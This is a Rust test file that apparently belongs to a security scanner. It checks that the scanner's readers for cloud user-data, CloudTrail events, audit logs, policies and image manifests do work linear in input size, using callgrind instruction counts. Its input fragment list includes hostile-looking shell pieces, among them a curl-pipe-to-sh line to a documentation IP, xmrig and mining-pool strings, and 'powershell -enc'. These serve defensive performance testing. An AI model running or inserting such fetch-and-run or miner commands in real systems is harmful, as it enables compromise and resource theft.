//! Work is linear: whatever a reader is given, twice the input costs about twice the instructions.
//!
//! Instructions are counted with callgrind, so the machine's speed and load do not matter. The inputs repeat
//! fragments of what the readers' scanners know: alone, and nested. `make work` runs longer inputs and all pairs.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// The smallest input, in bytes; the others are twice and four times as long.
fn size() -> usize {
    std::env::var("IMAGEWARDEN_WORK_SIZE").ok().and_then(|size| size.parse().ok()).unwrap_or(1_000)
}

/// `before`, then `open` and `close` equally often.
type Spec = [String; 3];

/// What shells, PowerShell, cmd, cloud-config, Jinja, TOML, JSON, XML and URLs are made of.
const FRAGMENTS: &[&str] = &[
    "(",
    "((",
    "$(",
    "$((",
    "${",
    "${a:-",
    "${a//",
    "{",
    "{a,",
    "{1..9}",
    "[",
    "[[ ",
    "`",
    "\"",
    "'",
    "$'",
    "$\"",
    "\\",
    "\\\n",
    "\n",
    "\r",
    " ",
    "\t",
    "#",
    "# a\n",
    "<",
    "<<A\n",
    "<<'A'\n",
    "<<-A\n",
    "<<<",
    "<(",
    ">",
    ">>",
    ">a ",
    "|",
    "||",
    "|&",
    "&",
    "&&",
    ";",
    ";;",
    "!",
    "*",
    "?",
    "~",
    "$",
    "$a",
    "$a$b",
    "a=b ",
    "a=$a$a\n",
    "a+=a\n",
    "=",
    ":",
    ",",
    ".",
    "..",
    "a.",
    "a-",
    "a_",
    "a/",
    "../",
    "/",
    "//",
    "a:",
    "a@",
    "%",
    "%%",
    "%a%",
    "^",
    "@",
    "@(",
    "+",
    "-",
    "--a ",
    "- ",
    "- a\n",
    "a: ",
    "a: b\n",
    "a: |\n",
    "a: {",
    "&a ",
    "*a ",
    "!!a ",
    "? ",
    "---\n",
    "{{",
    "{{ a }}",
    "{% if a %}",
    "{% set a = a ~ a %}",
    "{#",
    "<a>",
    "</a>",
    "<!--",
    "<![CDATA[",
    "&amp;",
    "[a.a]\n",
    "[[a]]\n",
    "a.a.a = 1\n",
    "\"\"\"",
    "'''",
    "if a; then ",
    "fi;",
    "for a in ",
    "do ",
    "done;",
    "while a; ",
    "case a in ",
    "a) ",
    "esac;",
    "function a { ",
    "a() { ",
    "a() { a; a; }\n",
    "eval ",
    "eval \"",
    "exec ",
    "sh -c ",
    "sh -c '",
    "bash -c \"",
    "sudo ",
    "env a=b ",
    "xargs ",
    "find . -exec ",
    "ssh a ",
    "docker run a ",
    "echo ",
    "echo a | ",
    "printf '%s' ",
    "printf '\\x41'",
    "base64 -d ",
    "read a ",
    "alias a=",
    "source ",
    "trap '",
    "cat ",
    "cat <<A\na\nA\n",
    "tee a ",
    "cp a a\n",
    "cd a\n",
    "curl http://a.b/c ",
    "curl http://203.0.113.7/a | sh\n",
    "wget a && ",
    "http://",
    "http://a.",
    "https://a@",
    "xmrig ",
    "xmrig-",
    "stratum+tcp://a:1 ",
    "pool.",
    "supportxmr.com.",
    "crontab -",
    "* * * * * ",
    "powershell -enc ",
    "iex ",
    "& ",
    "$a='a'\n",
    "'a'+",
    "-join ",
    "[char]65+",
    "@'\n",
    "`a",
    "^a",
    "set a=b\n",
    "call ",
    "goto a\n",
    ":a\n",
    "import os\n",
    "os.system(",
    "\\x41",
    "\\u0041",
    "=?utf-8?q?",
    "--a\n",
    "--a\n\n",
    "QUJD",
    "H4sI",
    "0x",
    "\u{feff}",
    "\u{85}",
    "\u{2028}",
    "\u{0}",
    "\u{7f}",
    "\u{202e}",
    "é",
    "𝕏",
];

const PAIRS: &[(&str, &str)] = &[
    ("(", ")"),
    ("$(", ")"),
    ("${a:-", "}"),
    ("{", "}"),
    ("{a,", "}"),
    ("[", "]"),
    ("`", "`"),
    ("\"$(", ")\""),
    ("'", "'"),
    ("if a; then ", "fi;"),
    ("case a in a) ", ";; esac;"),
    ("for a in b; do ", "done;"),
    ("a() { ", "}\n"),
    ("<<A\n", "A\n"),
    ("sh -c '", "'"),
    ("eval \"", "\""),
    ("<a>", "</a>"),
    ("{{", "}}"),
    ("{% if a %}", "{% endif %}"),
    ("{\"a\":", "}"),
    ("[{\"a\":", "}]"),
    ("a:\n  ", ""),
    ("- - ", "\n"),
    ("@(", ")"),
    ("<(", ")"),
    ("[[ ", " ]]"),
];

/// What stands before the fragments: the first lines that decide who reads the rest.
const USER_DATA: &[&str] = &[
    "#!/bin/bash\n",
    "#cloud-config\nruncmd:\n - ",
    "#cloud-config\n",
    "<powershell>\n",
    "<script>\n",
    "## template: jinja\n#cloud-config\n",
    "#include\n",
    "Content-Type: multipart/mixed; boundary=\"a\"\nMIME-Version: 1.0\n\n--a\n",
    "[settings]\n",
    "{\"ignition\": {\"version\": \"3.0.0\"}, \"a\": ",
    "#!/usr/bin/python3\n",
];

fn alone(before: &str) -> Vec<Spec> {
    let alone = FRAGMENTS.iter().map(|open| [before.to_owned(), (*open).to_owned(), String::new()]);
    let nested =
        PAIRS.iter().map(|(open, close)| [before.to_owned(), (*open).to_owned(), (*close).to_owned()]);
    alone.chain(nested).collect()
}

/// In `make work` only: each fragment behind each other one.
fn pairs(before: &str) -> Vec<Spec> {
    let pair = |one: &str, other: &str| [before.to_owned(), format!("{one}{other}"), String::new()];
    FRAGMENTS.iter().flat_map(|one| FRAGMENTS.iter().map(move |other| pair(one, other))).collect()
}

#[test]
fn twice_the_user_data_costs_about_twice_the_work() {
    let mut specs = spread("#!/bin/bash\n", 2);
    if thorough() {
        specs.extend(USER_DATA.iter().skip(1).flat_map(|before| alone(before)));
        specs.extend(pairs("#!/bin/bash\n"));
    } else {
        // Each other first line meets other fragments.
        for (number, before) in USER_DATA.iter().enumerate().skip(1) {
            specs.extend(alone(before).into_iter().skip(number).step_by(23));
        }
    }
    hold("user_data", &specs);
}

#[test]
fn twice_the_event_costs_about_twice_the_work() {
    let event = r#"{"Records":[{"eventVersion":"1.11","eventID":"1","eventTime":"2026-03-03T10:15:00Z","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","awsRegion":"eu-central-1","requestParameters":{"a":""#;
    let mut specs = spread(event, 5);
    specs.extend(spread("", 5));
    hold("events", &specs);
}

#[test]
fn twice_the_log_costs_about_twice_the_work() {
    let tetragon = r#"{"process_exec":{"process":{"binary":"/usr/bin/a","pod":{"namespace":"a","name":"a"},"arguments":""#;
    let audit = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","requestURI":""#;
    let auditd = "type=EXECVE msg=audit(1709460000.000:1): argc=3 a0=\"";
    let mut specs = spread(tetragon, 5);
    specs.extend(spread(audit, 7));
    specs.extend(spread(auditd, 7));
    hold("log_batches", &specs);
}

#[test]
fn twice_the_policy_costs_about_twice_the_work() {
    let mut specs = spread("images:\n  approved:\n    owners: [", 7);
    specs.extend(spread("containers:\n  registries:\n    - ", 7));
    hold("policies", &specs);
}

#[test]
fn twice_the_reference_or_manifest_costs_about_twice_the_work() {
    hold("references", &spread("", 4));
    hold("manifests", &spread(r#"{"schemaVersion":2,"layers":["#, 4));
}

#[test]
fn twice_the_archive_costs_about_twice_the_work() {
    hold("archives", &spread(r#"{"Records":[{"eventName":""#, 5));
}

/// Every `step`th fragment; in `make work` all of them.
fn spread(before: &str, step: usize) -> Vec<Spec> {
    alone(before).into_iter().step_by(if thorough() { 1 } else { step }).collect()
}

fn thorough() -> bool {
    std::env::var_os("IMAGEWARDEN_WORK_SIZE").is_some()
}

/// How much more than the double the second step may cost: sorting, and tables that grow.
const TOLERANCE: f64 = 1.25;

/// Instructions that do not count: what a table costs when it grows once.
const SLACK: f64 = 150_000.0;

#[track_caller]
fn hold(reader: &str, specs: &[Spec]) {
    let size = size();
    let counts: Vec<Vec<f64>> = std::thread::scope(|scope| {
        let runs: Vec<_> = [size, size * 2, size * 4]
            .into_iter()
            .map(|size| scope.spawn(move || instructions(reader, size, specs)))
            .collect();
        runs.into_iter().map(|run| run.join().unwrap()).collect()
    });
    let mut faults = String::new();
    for (number, spec) in specs.iter().enumerate() {
        let [one, two, four] = [counts[0][number], counts[1][number], counts[2][number]];
        // What the second step may cost: the double of the first, or as much a byte as all before. The latter is
        // for inputs that are refused at once when they are a little longer.
        let (first, second) = ((two - one).max(two / 2.0), four - two);
        if second > 2.0 * TOLERANCE * first + SLACK {
            writeln!(
                faults,
                "{spec:?}: {one} instructions for {size} bytes, {two} for twice, {four} for four times"
            )
            .unwrap();
        }
    }
    assert!(faults.is_empty(), "{reader}: not linear:\n{faults}");
}

/// What callgrind counts for each spec.
fn instructions(reader: &str, size: usize, specs: &[Spec]) -> Vec<f64> {
    let folder = tempfile::tempdir().unwrap();
    let lines: String = specs.iter().map(|spec| serde_json::to_string(spec).unwrap() + "\n").collect();
    std::fs::write(folder.path().join("specs"), lines).unwrap();
    let run = Command::new("valgrind")
        .args([
            "--tool=callgrind",
            "--quiet",
            "--toggle-collect=work::measured",
            "--dump-after=work::measured",
        ])
        .arg(format!("--callgrind-out-file={}/out", folder.path().display()))
        .arg(harness())
        .args([reader, &size.to_string()])
        .stdin(Stdio::from(std::fs::File::open(folder.path().join("specs")).unwrap()))
        .output()
        .expect("valgrind runs: `make setup` installs it");
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    (1..=specs.len()).map(|number| total(&folder.path().join(format!("out.{number}")))).collect()
}

fn total(path: &Path) -> f64 {
    let text = std::fs::read_to_string(path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    let line = text.lines().find_map(|line| line.strip_prefix("summary: ").or(line.strip_prefix("totals: ")));
    line.unwrap().trim().parse().unwrap()
}

/// The example `work`, which cargo builds beside the tests.
fn harness() -> PathBuf {
    let mut folder = std::env::current_exe().unwrap();
    folder.pop();
    folder.pop();
    let harness = folder.join("examples").join("work");
    assert!(harness.is_file(), "{}: `cargo test` builds it", harness.display());
    harness
}
